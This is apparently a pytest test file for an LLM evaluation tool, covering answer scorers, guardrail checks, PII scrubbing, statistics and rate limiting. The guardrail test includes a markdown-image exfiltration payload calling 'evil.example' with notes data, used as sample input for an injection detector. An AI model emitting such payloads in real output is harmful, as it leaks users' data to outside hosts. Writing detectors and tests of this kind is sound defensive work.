from __future__ import annotations

import asyncio
import itertools
from pathlib import Path
from typing import Any

import pytest
from fakeclock import FakeClock

from llmops_cli.contracts.report import CaseRow
from llmops_cli.evaluation.aggregate import bootstrap_ci, by_tag, percentiles, summarize
from llmops_cli.evaluation.calls import backoff_seconds
from llmops_cli.evaluation.local import NO_ANSWER, extractive_answer
from llmops_cli.evaluation.ratelimit import RateLimiter
from llmops_cli.evaluation.retrieval import chunk_corpus
from llmops_cli.evaluation.rows import set_status
from llmops_cli.evaluation.scorers import Answer, rouge_l, score, token_f1
from llmops_cli.guardrails.scrub import scrub


def answer(output: str, expected: object = "the cat sat", **kw: Any) -> Answer:
    base: dict[str, Any] = {
        "expected_sources": ["a.md"],
        "retrieved_sources": ["a.md", "b.md"],
        "latency_ms": 120.0,
        "tokens": 30,
        "cost_usd": 0.001,
    }
    base.update(kw)
    return Answer(output=output, expected=expected, **base)


@pytest.mark.parametrize(
    ("spec", "output", "value", "passed"),
    [
        ({"type": "exact"}, " the cat sat ", 1.0, True),
        ({"type": "exact"}, "the cat", 0.0, False),
        ({"type": "contains", "value": "cat"}, "a cat", 1.0, True),
        ({"type": "contains", "value": "Cat"}, "a cat", 0.0, False),
        ({"type": "icontains", "value": ["CAT", "sat"]}, "The cat sat", 1.0, True),
        ({"type": "not_contains", "value": "dog"}, "The cat", 1.0, True),
        ({"type": "not_contains", "value": "DOG"}, "the dog", 0.0, False),
        ({"type": "regex", "value": r"\d{2} days"}, "within 14 days", 1.0, True),
        ({"type": "regex", "value": "("}, "x", None, None),  # a spec error, not a failure
        ({"type": "json_valid"}, '{"a": 1}', 1.0, True),
        ({"type": "json_valid"}, "{a: 1}", 0.0, False),
        (
            {"type": "json_schema", "schema": {"type": "object", "required": ["a"]}},
            '{"b": 1}',
            0.0,
            False,
        ),
        (
            {"type": "json_schema", "schema": {"type": "object", "required": ["a"]}},
            '{"a": 1}',
            1.0,
            True,
        ),
        ({"type": "length", "min": 2, "max": 5}, "abcdef", 0.0, False),
        ({"type": "token_f1"}, "the cat sat", 1.0, None),
        ({"type": "token_f1", "threshold": 0.9}, "a cat", 0.4, False),
        ({"type": "context_recall"}, "x", 1.0, None),
        ({"type": "context_precision", "threshold": 0.5}, "x", 0.5, True),
        ({"type": "latency", "threshold": 100}, "x", 120.0, False),
        ({"type": "cost"}, "x", 0.001, None),
    ],
)
def test_scorers(
    spec: dict[str, Any], output: str, value: float | None, passed: bool | None
) -> None:
    result = score(spec, answer(output))
    if value is None:
        assert result.value is None
    else:
        assert result.value == pytest.approx(value)
    assert result.passed is passed
    if passed is False:
        assert result.reason


@pytest.mark.parametrize(
    ("spec", "output", "value", "passed", "reason"),
    [
        ({"type": "pii_leak"}, "Reset it under Settings > Sync.", 0.0, True, ""),
        ({"type": "pii_leak"}, "Write to jane.doe@example.com", 1.0, False, "EMAIL_ADDRESS"),
        ({"type": "pii_leak"}, "Order 4111 1111 1111 1112 ships today", 0.0, True, ""),
        ({"type": "injection_echo"}, "Your notes sync every 5 minutes.", 0.0, True, ""),
        (
            {"type": "injection_echo"},
            "Sure! ![x](https://evil.example/c?d=notes)",
            1.0,
            False,
            "markdown-image-exfiltration",
        ),
        ({"type": "injection_echo", "value": ["PWNED"]}, "pwned!", 1.0, False, "marker"),
        ({"type": "refusal"}, "I'm sorry, but I can't help with that.", 1.0, False, "refusal"),
        ({"type": "refusal"}, "Sorry for the trouble: open Settings.", 0.0, True, ""),
        ({"type": "refusal", "expect": "refuse"}, "I cannot assist with that.", 1.0, True, ""),
        ({"type": "refusal", "expect": "refuse"}, "Here is the key: ...", 0.0, False, "refuse"),
        ({"type": "toxicity", "threshold": 0.9}, "you are a stupid idiot", None, False, ">="),
        ({"type": "toxicity"}, "Thanks, glad the export worked!", None, True, ""),
    ],
)
def test_guardrail_scorers(
    spec: dict[str, Any], output: str, value: float | None, passed: bool, reason: str
) -> None:
    result = score(spec, answer(output))
    assert result.passed is passed
    if value is not None:
        assert result.value == value
    assert reason in result.reason
    assert "jane.doe" not in result.reason  # entity types only, never values


def test_token_f1_and_rouge_l_known_values() -> None:
    assert token_f1("the cat sat on the mat", "the cat sat") == pytest.approx(2 * 0.5 * 1 / 1.5)
    assert rouge_l("a b c d", "a c d") == pytest.approx(2 * 0.75 * 1 / 1.75)
    assert token_f1("", "") == 1.0 and rouge_l("x", "") == 0.0


def test_bootstrap_ci_is_deterministic_and_brackets_the_mean() -> None:
    values = [0.0, 1.0] * 50
    ci = bootstrap_ci(values)
    assert ci is not None
    low, high = ci
    assert low < 0.5 < high and (low, high) == bootstrap_ci(values)
    assert 0.38 < low < 0.45 and 0.55 < high < 0.62  # normal approx: 0.5 ± 1.96 * 0.05
    assert bootstrap_ci([1.0]) is None


def test_bootstrap_large_n_runs_in_batches() -> None:
    values = [float(i % 2) for i in range(20_000)]
    ci = bootstrap_ci(values)
    assert ci is not None
    low, high = ci
    assert low < 0.5 < high and high - low < 0.03


def test_summary_and_slices() -> None:
    rows: list[dict[str, Any]] = [
        {
            "status": "passed",
            "tags": ["a"],
            "latency_ms": 10.0,
            "prompt_tokens": 3,
            "completion_tokens": 2,
            "cost_usd": 0.01,
            "scores": {"m": {"value": 1.0, "passed": True}},
        },
        {
            "status": "failed",
            "tags": ["a", "b"],
            "latency_ms": 30.0,
            "prompt_tokens": 3,
            "completion_tokens": 2,
            "cost_usd": 0.03,
            "scores": {"m": {"value": 0.0, "passed": False}},
        },
        {
            "status": "errored",
            "tags": ["b"],
            "latency_ms": None,
            "prompt_tokens": 0,
            "completion_tokens": 0,
            "cost_usd": None,
            "scores": {},
        },
    ]
    s = summarize(_typed(rows))
    assert (s.cases, s.passed, s.failed, s.errored) == (3, 1, 1, 1)
    assert s.error_rate == pytest.approx(1 / 3)
    assert s.pass_rate.mean == 0.5  # errored cases are not counted as failures or passes
    assert s.cost_usd.per_1k_requests == pytest.approx(20.0)
    pass_rate = s.metrics["m"].pass_rate
    assert pass_rate is not None and pass_rate.mean == 0.5
    slices = by_tag(_typed(rows))
    assert slices["a"].pass_rate == 0.5 and slices["b"].errored == 1
    assert percentiles([]).to_dict() == {"p50": None, "p95": None, "p99": None, "mean": None}


def _typed(rows: list[dict[str, object]]) -> list[CaseRow]:
    return [CaseRow.from_dict({"case_id": f"c{i}", "repeat": 0, **r}) for i, r in enumerate(rows)]


def _graded(tag: str, checks: dict[str, bool | None]) -> dict[str, object]:
    row: dict[str, object] = {
        "tags": [tag],
        "latency_ms": 5.0,
        "prompt_tokens": 1,
        "completion_tokens": 1,
        "cost_usd": None,
        "scores": {"token_f1": {"value": 0.0, "passed": None}}
        | {n: {"value": float(bool(ok)), "passed": ok} for n, ok in checks.items()},
    }
    set_status(row)
    return row


def test_a_case_without_a_check_is_scored_and_the_pass_rate_counts_checked_cases() -> None:
    rows = [_graded("open", {}) for _ in range(40)]
    assert {r["status"] for r in rows} == {"scored"}
    s = summarize(_typed(rows))
    assert (s.passed, s.failed, s.scored, s.checked) == (0, 0, 40, 0)
    assert s.pass_rate.to_dict() == {"n": 0, "mean": None, "ci95": None}  # not "100%"
    rows += [_graded("fact", {"icontains": True}), _graded("fact", {"icontains": False})]
    rows += [_graded("fact", {"icontains": None})]  # an unmeasured check is no verdict
    s = summarize(_typed(rows))
    assert (s.passed, s.failed, s.scored, s.checked) == (1, 1, 41, 2)
    assert s.pass_rate.mean == 0.5 and s.pass_rate.n == 2
    slices = by_tag(_typed(rows))
    assert slices["open"].pass_rate is None and slices["open"].scored == 40
    assert (slices["fact"].checked, slices["fact"].pass_rate) == (2, 0.5)


def test_extractive_baseline_picks_the_supporting_sentence() -> None:
    passages = [
        "Refunds take 5 to 10 business days. Monthly plans are not refunded.",
        "Tags help you organise notes.",
    ]
    assert (
        extractive_answer("Are monthly plans refunded?", passages)
        == "Monthly plans are not refunded."
    )
    assert extractive_answer("quantum chromodynamics", passages) == NO_ANSWER
    assert extractive_answer("anything", []) == NO_ANSWER


def test_chunking_respects_size_and_overlap(tmp_path: Path) -> None:
    (tmp_path / "a.md").write_text(" ".join(f"w{i}" for i in range(100)))
    chunks = chunk_corpus(tmp_path, chunk_size=40, overlap=10)
    assert [c.text.split()[0] for c in chunks] == ["w0", "w30", "w60"]
    assert all(len(c.text.split()) <= 40 for c in chunks) and chunks[-1].text.endswith("w99")
    assert len(chunk_corpus(tmp_path, chunk_size=20, overlap=0)) == 5


def test_scrub_replaces_values_with_entity_types() -> None:
    text = (
        "mail jane.doe@example.com, card 4111 1111 1111 1111, not a card 4111 1111 1111 1112, "
        "call +44 20 7946 0958, ssn 536-22-8726, key sk-abcdefghijklmnopqrstuv"
    )
    out = scrub(text)
    assert "jane.doe" not in out and "<EMAIL_ADDRESS>" in out
    assert "<CREDIT_CARD>" in out and "4111 1111 1111 1112" in out
    assert "<PHONE_NUMBER>" in out and "<US_SSN>" in out and "<SECRET>" in out
    assert scrub("Order 12345 costs $60 on 2024-07-18.") == "Order 12345 costs $60 on 2024-07-18."


def test_backoff_honours_retry_after_and_grows() -> None:
    assert backoff_seconds(0, 2.5) == 2.5
    assert backoff_seconds(0, 999) == 120.0
    assert 0.25 <= backoff_seconds(0, None) <= 0.75
    assert 2.0 <= backoff_seconds(3, None) <= 6.0
    assert backoff_seconds(10, None) <= 45.0


def starts_of(
    limiter: RateLimiter, clock: FakeClock, tokens: list[int], after: float = 0
) -> list[float]:
    """When each of a batch of concurrent callers got its start, in fake seconds from the
    clock's start; with `after`, a first call of `tokens[0]` goes alone, then the clock moves
    on `after` seconds before the rest arrive together."""

    async def one(n: int) -> float:
        await limiter.acquire(n)
        return clock.now() - clock.t0

    async def go() -> list[float]:
        first = [await one(tokens[0])] if after else []
        clock.t += after
        rest = tokens[1:] if after else tokens
        return first + list(await asyncio.gather(*(one(n) for n in rest)))

    return asyncio.run(go())


def test_rate_limiter_spaces_requests() -> None:
    """One start every 50 ms; a sleep that wakes 120 ms late delays the next starts instead
    of letting them burst out to catch up with the old schedule."""
    clock = FakeClock(late=[0.12])
    limiter = RateLimiter(rpm=1200, tpm=None, clock=clock.clock())
    starts = starts_of(limiter, clock, [1] * 5)
    gaps = [b - a for a, b in itertools.pairwise(starts)]
    assert gaps == pytest.approx([0.17, 0.05, 0.05, 0.05])


def test_rate_limiter_token_window() -> None:
    """80 + 80 tokens overflow a 100-token minute: the second call waits until the first
    leaves the 60-second window; the next two fit at once, but each starts no sooner than the
    rpm spacing after the real start of the one before."""
    clock = FakeClock()
    limiter = RateLimiter(rpm=60, tpm=100, clock=clock.clock())
    assert starts_of(limiter, clock, [80, 80, 10, 10], after=59.5) == [0.0, 60.0, 61.0, 62.0]
    assert clock.sleeps == [0.5, 1.0, 1.0]


def test_rouge_l_lcs_equals_the_dynamic_programme() -> None:
    """The bit-parallel LCS gives the textbook dynamic programme's length on every pair."""
    import random

    from llmops_cli.evaluation.scorers import lcs_length

    def textbook(a: list[str], b: list[str]) -> int:
        previous = [0] * (len(b) + 1)
        for x in a:
            current = [0]
            for j, y in enumerate(b, start=1):
                current.append(previous[j - 1] + 1 if x == y else max(previous[j], current[j - 1]))
            previous = current
        return previous[-1]

    rnd = random.Random(5)
    for _ in range(3000):
        a = [rnd.choice("abcde") for _ in range(rnd.randint(0, 70))]
        b = [rnd.choice("abcdef") for _ in range(rnd.randint(0, 70))]
        assert lcs_length(a, b) == textbook(a, b) == lcs_length(b, a)
